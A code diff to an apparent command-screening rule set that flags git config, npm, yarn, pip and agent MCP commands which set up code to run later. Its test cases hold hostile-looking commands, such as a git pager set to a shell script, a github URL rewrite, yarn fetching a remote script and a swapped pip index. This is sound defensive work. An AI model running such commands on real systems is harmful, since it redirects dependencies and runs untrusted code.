@@ -18,6 +18,8 @@ export const scheduled: InvocationRule = {
     'launchctl load x.plist',
     'systemctl --user enable x.timer',
     'git config core.hooksPath .hooks',
+    "git config --global core.pager 'sh x.sh'",
+    'git config --global url."https://git.example/".insteadOf https://github.com/',
     "git config --global alias.x '!sh x.sh'",
   ],
   passes: [
@@ -27,6 +29,10 @@ export const scheduled: InvocationRule = {
     'launchctl list',
     'git config user.name',
     'git config --get core.hooksPath',
+    'git config core.hooksPath .husky',
+    "git config --global core.editor 'code --wait'",
+    'git config --global core.pager delta',
+    'git config --global url."https://github.com/".insteadOf git@github.com:',
     'git config --global pull.rebase true',
     'at -l',
   ],
@@ -43,6 +49,27 @@ export const scheduled: InvocationRule = {
 
 const RUN_BY_GIT =
   /^(?:core\.(?:hookspath|pager|editor|sshcommand|fsmonitor|askpass|gitproxy)|alias\..+|filter\..+|diff\.external|.*\.(?:cmd|command|textconv|driver|helper)|credential\.helper|init\.templatedir|include\.path|includeif\..+|url\..+)$/i;
+
+/** Settings by which git runs something, with the values that everybody gives them. */
+const KNOWN_TO_GIT: readonly (readonly [setting: RegExp, value: RegExp])[] = [
+  [/^alias\./i, /^[^!]/],
+  [/^credential\.helper$/i, /^(?:cache|store|osxkeychain|manager\S*|libsecret)(?: .*)?$/],
+  [
+    /^core\.(?:editor|pager)$/i,
+    /^(?:vim?|nvim|nano|emacs|micro|hx|subl -n -w|(?:code|cursor|zed)(?: --wait| -w)?|cat|less(?: -[A-Za-z]{1,9})*|more|delta|bat|true)$/,
+  ],
+  // What lies in these folders is looked at when it is written.
+  [/^core\.hookspath$/i, /^(?:\.\/)?(?:\.husky(?:\/_)?|\.githooks|\.git\/hooks)\/?$/],
+  [/^core\.sshcommand$/i, /^ssh(?: -i [\w~./-]{1,200}| -p \d{1,5}| -4| -v)*$/],
+  [
+    /^url\.(?:https:\/\/|ssh:\/\/git@|git@)(?:github|gitlab|bitbucket)\.(?:com|org)[:/]?\.insteadof$/i,
+    /^(?:https:\/\/|ssh:\/\/git@|git@|git:\/\/)(?:github|gitlab|bitbucket)\.(?:com|org)[:/]?$/,
+  ],
+];
+
+function isKnownToGit(setting: string, value: string | undefined): boolean {
+  return KNOWN_TO_GIT.some(([key, known]) => key.test(setting) && known.test(value ?? '!'));
+}
 
 function schedules({ program, args }: Invocation): Word | undefined {
   const values = args.map(({ value }) => value ?? '?');
@@ -75,12 +102,7 @@ function schedules({ program, args }: Invocation): Word | undefined {
       if (!named || value === undefined || values.includes('--get') || values.includes('get')) {
         return undefined;
       }
-      const harmless = /^alias\./i.test(key?.value ?? '') && value.value?.startsWith('!') === false;
-      return harmless ||
-        (/^credential\.helper$/i.test(key?.value ?? '') &&
-          /^(?:cache|store|osxkeychain|manager\S*|libsecret)(?: .*)?$/.test(value.value ?? ''))
-        ? undefined
-        : key;
+      return isKnownToGit(key?.value ?? '', value.value) ? undefined : key;
     }
     default:
       return undefined;
@@ -101,6 +123,7 @@ export const configured: InvocationRule = {
   stops: [
     'npm pkg set scripts.postinstall="node x.js"',
     'npm config set script-shell /tmp/x',
+    'yarn set version https://x.example/yarn.js',
     'npm config set ignore-scripts false',
     'pip config set global.index-url https://pypi.example/simple',
     'claude mcp add x -- node x.js',
@@ -113,6 +136,8 @@ export const configured: InvocationRule = {
   ],
   passes: [
     'npm pkg set scripts.test=mocha',
+    'npm pkg set version=1.3.0',
+    'yarn set version stable',
     'npm pkg get scripts',
     'npm config get registry',
     'npm config set fund false',
@@ -140,7 +165,7 @@ export const configured: InvocationRule = {
 /** Which words of which programs; from their manuals. */
 // prettier-ignore
 const SETS_UP: readonly (readonly [RegExp, RegExp])[] = [
-  [/^(?:npm|pnpm|yarn)$/, /^(?:pkg )?set(?:-script)? (?:scripts\.)?(?:pre|post)?(?:install|prepare|prepublish|prepublishOnly|prepack|postpack|publish|version|uninstall)\b|^config set (?:-\S+ |--\S+ )?(?:script-shell|node-options|shell|git|yarnPath|ignore-scripts[= ]false|enableScripts[= ]true)\b/],
+  [/^(?:npm|pnpm|yarn)$/, /^(?:pkg set scripts\.|set-script )(?:pre|post)?(?:install|prepare|prepublish|prepublishOnly|prepack|postpack|publish|version|uninstall)\b|^set version (?!(?:stable|berry|classic|latest|canary|[\^~]?\d[\w.-]*)(?: |$))|^(?:config )?set (?:-\S+ |--\S+ )?(?:script-shell|node-options|shell|git|yarnPath|ignore-scripts[= ]false|enableScripts[= ]true)\b/],
   [/^(?:pip|pip3)$/, /^config set \S*(?:index-url|trusted-host|find-links)/],
   [/^(?:claude|codex|gemini|qwen|copilot|cursor-agent|opencode|droid|amp|goose|kiro-cli)$/, /^mcp (?:add|add-json|add-from-claude-desktop|import|install)\b|^(?:plugins?|extensions?|hooks?) (?:install|add|link)\b/],
   [/^(?:code|cursor|windsurf)$/, /--add-mcp\b/],
